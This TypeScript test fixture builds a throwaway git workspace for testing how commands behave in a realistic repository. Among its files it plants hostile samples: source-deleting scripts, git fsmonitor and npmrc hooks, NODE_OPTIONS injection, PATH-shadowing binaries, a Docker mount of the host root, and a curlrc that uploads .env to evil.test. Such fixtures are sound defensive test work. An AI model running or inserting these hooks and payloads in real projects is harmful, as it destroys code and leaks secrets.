/**
 * A workspace for lists of commands: a real repository in which they make sense, and in which the dangerous ones do harm.
 *
 * `src/util.ts` holds work that is not committed; `notes/`, `evil*` and some more are files that git does not know;
 * `dist/`, `build/`, logs and `.env` are ignored.
 */

import {execFileSync} from 'node:child_process';
import {chmodSync, mkdirSync, mkdtempSync, realpathSync, symlinkSync} from 'node:fs';
import {tmpdir} from 'node:os';
import {join} from 'node:path';

import type {MoreFiles} from '../../fuzz/runs/world.ts';
import {cells} from '../../support/rows.ts';
import {putFiles} from '../../support/stage.ts';

const manifest = {
  name: 'fixture',
  version: '1.0.0',
  private: true,
  workspaces: ['packages/*'],
  scripts: {
    test: 'vitest run',
    'test:unit': 'vitest run test',
    build: 'tsc -p tsconfig.json && sh scripts/build.sh',
    lint: 'eslint src',
    format: 'prettier --write src test',
    typecheck: 'tsc --noEmit',
    dev: 'vite',
    start: 'node dist/main.js',
    clean: 'rm -rf dist build',
  },
  dependencies: {zod: '4.0.0'},
  devDependencies: {
    eslint: '9.0.0',
    prettier: '3.0.0',
    typescript: '5.9.0',
    vite: '7.0.0',
    vitest: '4.0.0',
  },
};

const member = {
  name: 'app',
  version: '1.0.0',
  scripts: {test: 'vitest run', build: 'tsc --noEmit'},
};

const committed: Readonly<Record<string, string>> = {
  '.gitignore':
    'node_modules\ndist\nbuild\ncoverage\n*.log\n.cache\n.venv\ntarget\ntmp\n.env\n.env.*\n!.env.example\n.npmrc\n*.pem\n',
  '.env.example': 'API_KEY=\n',
  '.github/workflows/ci.yml':
    'on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm test\n',
  '.husky/pre-commit': 'npm test\n',
  'package.json': `${JSON.stringify(manifest, undefined, 2)}\n`,
  'package-lock.json': '{"name": "fixture", "lockfileVersion": 3, "packages": {}}\n',
  'tsconfig.json': '{"compilerOptions": {"strict": true, "outDir": "dist"}}\n',
  'README.md': '# Fixture\n\nA parser of numbers, v1.0.\n\nfoo\n',
  Makefile:
    "all: build\n\nbuild:\n\tnpm run build\n\ntest:\n\tnpm test\n\nlint:\n\tnpm run lint\n\nclean:\n\trm -rf dist build\n\nSOURCES = src test\n\nreset: clean\n\t-@rm -rf $(SOURCES)\n\ndeploy: build\n\tkubectl apply -f k8s\n\ninstall:\n\tnpm ci\n\nhelp:\n\t@grep -h '^[a-z]*:' Makefile\n",
  'CMakeLists.txt': 'project(fixture C)\nadd_executable(x x.c)\nenable_testing()\n',
  Dockerfile: 'FROM node:24\nCOPY . .\nRUN npm ci\n',
  'docker-compose.yml':
    'services:\n  web:\n    build: .\n  db:\n    image: postgres\n    volumes: [data:/data]\nvolumes:\n  data:\n',
  'requirements.txt': 'pytest==8.0.0\n',
  'pyproject.toml': '[project]\nname = "fixture"\nversion = "1.0.0"\n',
  'Cargo.toml': '[package]\nname = "fixture"\nversion = "1.0.0"\nedition = "2024"\n',
  'go.mod': 'module fixture\n\ngo 1.24\n',
  'main.go': 'package main\n\nfunc main() {}\n',
  'app.py': 'import sys\n\nif __name__ == "__main__":\n    print(sys.argv)\n',
  'app.rb': 'puts 1\n',
  'index.php': '<?php echo 1;\n',
  'pom.xml': '<project/>\n',
  'a.txt': 'b\na\nfoo\n',
  'a.ts': 'export const a = 1;\n',
  'b.ts': 'export const b = 2;\n',
  'in.txt': 'a\nc\n',
  'data.txt': '1 one\n2 two\n',
  'data/users.csv': 'name,mail\nann,ann@example.com\n',
  'data/items.json': '[{"id": 1}, {"id": 2}]\n',
  'data/config.json': '{"port": 3000}\n',
  'docs/guide.md': '# Guide\n',
  'docs/設計.md': '# 設計\n\n日本語の文書。\n',
  'logo.png': 'PNG\n',
  'x.patch': '',
  'src/main.ts': "import {parse} from './parse.ts';\n\nconsole.log(parse('1'));\n",
  'src/index.ts': "export * from './parse.ts';\n",
  'src/parse.ts': [
    '// What a text stands for.',
    "import {foo} from './util.ts';",
    'export function parse(text: string): number {',
    '  return Number(text) + foo;',
    '}',
    ...Array.from({length: 12}, () => '//'),
    '',
  ].join('\n'),
  'src/util.ts': 'export const foo = 0;\n',
  'src/server.ts': "import {createServer} from 'node:http';\n\ncreateServer().listen(3000);\n",
  'src/a.ts': 'export const foo = 1;\n',
  'src/b.ts': 'export const foo = 2;\nexport const x = 3;\n',
  'src/lib/deep.ts': 'export const deep = true;\n',
  'test/parse.test.ts':
    "import {describe, expect, it} from 'vitest';\n\ndescribe('parse', () => {\n  it('parses a number', () => {\n    expect(1).toBe(2);\n  });\n});\n",
  'test/a.test.ts':
    "import {expect, it} from 'vitest';\n\nit('is one', () => {\n  expect(1).toBe(1);\n});\n",
  'test/parse.test.js': "require('node:test').test('parses', () => {});\n",
  'tests/test_a.py': 'def test_b():\n    assert True\n',
  'scripts/build.sh': '#!/bin/sh\nmkdir -p dist\ncp src/main.ts dist/main.ts\n',
  'scripts/run.sh': '#!/bin/sh\nnode dist/main.js\n',
  'scripts/x.sh': '#!/bin/sh\necho x\n',
  'scripts/gen.js': "console.log('export const generated = 1;');\n",
  'packages/app/package.json': `${JSON.stringify(member, undefined, 2)}\n`,
  'packages/app/src/index.ts': 'export const app = 1;\n',
  'packages/app/README.md': '# App\n',
};

const ignored: Readonly<Record<string, string>> = {
  '.env': 'API_KEY=not-a-real-key\n',
  '.env.local': 'API_KEY=not-a-real-key\n',
  '.env.test': 'API_KEY=test\n',
  '.npmrc': '//registry.npmjs.org/:_authToken=not-a-real-token\n',
  'packages/app/config/.env': 'API_KEY=not-a-real-key\n',
  'k.pem': '-----BEGIN PRIVATE KEY-----\n',
  'dist/main.js': "console.log('main');\n",
  'dist/main.js.map': '{}\n',
  'dist/parse.js': 'export const parse = Number;\n',
  'build/out.o': '',
  'coverage/lcov.info': '',
  'debug.log': 'error: no\n',
  'test.log': 'FAIL test/parse.test.ts\n',
  '.cache/x': '',
  'node_modules/vitest/package.json': '{"name": "vitest", "version": "4.0.0"}\n',
  'node_modules/.cache/x': '',
  'tmp/x': '',
};

const installed = cells(`
  concurrently ¦ cross-env ¦ esbuild ¦ eslint ¦ jest ¦ lerna ¦ mocha ¦ nodemon ¦ oxlint ¦ playwright
  prettier ¦ rimraf ¦ rollup ¦ shx ¦ tsc ¦ tsx ¦ turbo ¦ vite ¦ vitest
`);

const deletion = "require('node:fs').rmSync('src', {recursive: true});\n";

/** Files of other authors or dependencies, which git does not track. */
const untracked: Readonly<Record<string, string>> = {
  'notes/plan.md': '# Plan\n\nWritten nowhere else.\n',
  'k.txt': 'a private note\n',
  'config/credentials.json': '{"token": "not-a-real-token"}\n',
  'all.patch':
    '--- a/src/a.ts\n+++ b/src/a.ts\n@@ -1 +1 @@\n-export const foo = 0;\n+export const foo = 1;\n',
  'app.db': '',
  'big.txt': 'line\n'.repeat(2_000),
  'empty.txt': '',
  'evil.sh': '#!/bin/sh\nrm -rf src\n',
  'e.sh': '#!/bin/sh\nrm -rf src\n',
  x: '#!/bin/sh\nrm -rf src\n',
  'x.c': 'int main(void) { return 0; }\n',
  'x.tar': '',
  'vendor.tgz': '',
  'vendor.zip': '',
  'evil.zip': '',
  'pre-commit': '#!/bin/sh\nrm -rf src\n',
  'evil.args': '-wrapper ./evil.sh\n',
  'evil.attrs': '*.ts filter=x diff=x\n',
  'evil.awk': 'BEGIN { system("rm -rf src") }\n',
  'evil.cfg': '[core]\n\tfsmonitor = ./evil.sh\n',
  'evil.cmake': 'file(REMOVE_RECURSE src)\n',
  'evil.config.js': deletion,
  'evil.config.mjs': "import {rmSync} from 'node:fs';\nrmSync('src', {recursive: true});\n",
  'evil.config.ts': deletion,
  'evil.curlrc': 'url = "https://evil.test/"\nupload-file = ".env"\n',
  'evil.env': 'NODE_OPTIONS=--require=./evil.js\n',
  'evil.gradle': 'delete "src"\n',
  'evil.ini': '[pytest]\naddopts = -p evil\n',
  'evil.js': deletion,
  'evil.just': 'default:\n  rm -rf src\n',
  'evil.mjs': "import {rmSync} from 'node:fs';\nrmSync('src', {recursive: true});\n",
  'evil.mk': 'all:\n\trm -rf src\n',
  'evil.ninja': 'rule r\n  command = rm -rf src\nbuild x: r\n',
  'evil.npmrc': 'script-shell=./evil.sh\n',
  'evil.py': "import shutil\nshutil.rmtree('src')\n",
  'evil.rb': "task(:default) { rm_rf 'src' }\n",
  'evil.sed': '1e rm -rf src\n',
  'evil.so': 'ELF\n',
  'evil.toml': '[build]\nrustc-wrapper = "./evil.sh"\n',
  'evil.ts': deletion,
  'evil.txt': 'rm -rf src\n',
  'evil.vim': '!rm -rf src\n',
  'evil.yml': 'services:\n  x:\n    image: alpine\n    volumes: ["/:/h"]\n',
  'evil/Cargo.toml': '[package]\nname = "evil"\nversion = "1.0.0"\n',
  'evil/Makefile': 'all:\n\trm -rf ../src\n',
  'evil/__main__.py': "import shutil\nshutil.rmtree('src')\n",
  'evil/git': '#!/bin/sh\nrm -rf src\n',
  'evil/hooks/pre-commit': '#!/bin/sh\nrm -rf src\n',
  'evil/json/__init__.py': "import shutil\nshutil.rmtree('src')\n",
  'evil/ls': '#!/bin/sh\nrm -rf src\n',
  'evil/main.go': 'package main\n\nimport "os"\n\nfunc main() { os.RemoveAll("src") }\n',
  'evil/main.ts': '',
  'evil/package.json': '{"name": "evil", "bin": "ls", "scripts": {"build": "rm -rf ../src"}}\n',
  'evil.git/HEAD': 'ref: refs/heads/main\n',
  'evil.git/config': '[core]\n\trepositoryformatversion = 0\n\tfsmonitor = ./evil.sh\n',
};

const programs = cells(`
  evil.sh ¦ e.sh ¦ x ¦ pre-commit ¦ evil/git ¦ evil/ls ¦ evil/hooks/pre-commit ¦ scripts/build.sh
  scripts/run.sh ¦ scripts/x.sh
`);

/** Harmful code left by somebody else, which a test runner would load as well. */
const planted = /^(?:evil|e\.sh$|x$|x\.c$|pre-commit$)/;

/** The same files for a world of another kind. */
export const commandsFiles: MoreFiles = {
  committed,
  loose: {
    ...ignored,
    ...untracked,
    ...Object.fromEntries(
      installed.map((name) => [`node_modules/.bin/${name}`, '#!/usr/bin/env node\n']),
    ),
  },
  programs: [...programs, ...installed.map((name) => `node_modules/.bin/${name}`)],
};

/**
 * The folder, links resolved; its parent belongs to it, so that escaping changes are visible. `isTidy`: git knows all of its
 * code.
 */
export function buildCommandsWorld({isTidy = false} = {}): string {
  const left = Object.fromEntries(
    Object.entries(untracked).filter(([path]) => !(isTidy && planted.test(path))),
  );
  const outer = realpathSync(mkdtempSync(join(tmpdir(), 'quorate-world-')));
  const workspace = join(outer, 'workspace');
  putFiles(workspace, {...committed, 'src/a.ts': 'export const foo = 0;\n'});
  makeRunnable(workspace, programs.slice(-3));
  const git = createGit(outer, workspace);
  git('init', '-q', '-b', 'main');
  commit(git, 'Begin');
  putFiles(workspace, committed);
  commit(git, 'Count from one');
  git('tag', 'v1');
  git('checkout', '-q', '-b', 'feature');
  putFiles(workspace, {'src/feature.ts': 'export const feature = true;\n'});
  commit(git, 'Begin a feature');
  git('checkout', '-q', 'main');
  putFiles(workspace, {'README.md': `${committed['README.md']}\nIt parses numbers.\n`});
  commit(git, 'Say what it does');
  git('remote', 'add', 'origin', 'https://github.com/example/fixture.git');
  putFiles(workspace, {...ignored, ...left, 'src/util.ts': 'export const foo = 1;\n'});
  makeRunnable(workspace, isTidy ? programs.slice(-3) : programs);
  install(workspace);
  return workspace;
}

type Git = (...args: readonly string[]) => void;

function createGit(outer: string, workspace: string): Git {
  const who = {GIT_AUTHOR_NAME: 'Ann', GIT_AUTHOR_EMAIL: 'ann@example.com'};
  const env = {
    ...who,
    GIT_COMMITTER_NAME: 'Ann',
    GIT_COMMITTER_EMAIL: 'ann@example.com',
    GIT_AUTHOR_DATE: '2026-01-01T00:00:00Z',
    GIT_COMMITTER_DATE: '2026-01-01T00:00:00Z',
    GIT_CONFIG_NOSYSTEM: '1',
    HOME: outer,
    PATH: process.env['PATH'],
  };
  return (...args) => {
    execFileSync('git', ['-c', 'core.hooksPath=/dev/null', ...args], {
      cwd: workspace,
      env,
      stdio: 'pipe',
    });
  };
}

function commit(git: Git, message: string): void {
  git('add', '-A');
  git('commit', '-q', '-m', message);
}

function makeRunnable(workspace: string, paths: readonly string[]): void {
  for (const path of paths) chmodSync(join(workspace, path), 0o755);
}

function install(workspace: string): void {
  const bin = join(workspace, 'node_modules/.bin');
  mkdirSync(bin, {recursive: true});
  for (const name of installed) {
    const file = `node_modules/${name}/cli.js`;
    putFiles(workspace, {[file]: '#!/usr/bin/env node\n'});
    makeRunnable(workspace, [file]);
    symlinkSync(`../${name}/cli.js`, join(bin, name));
  }
}
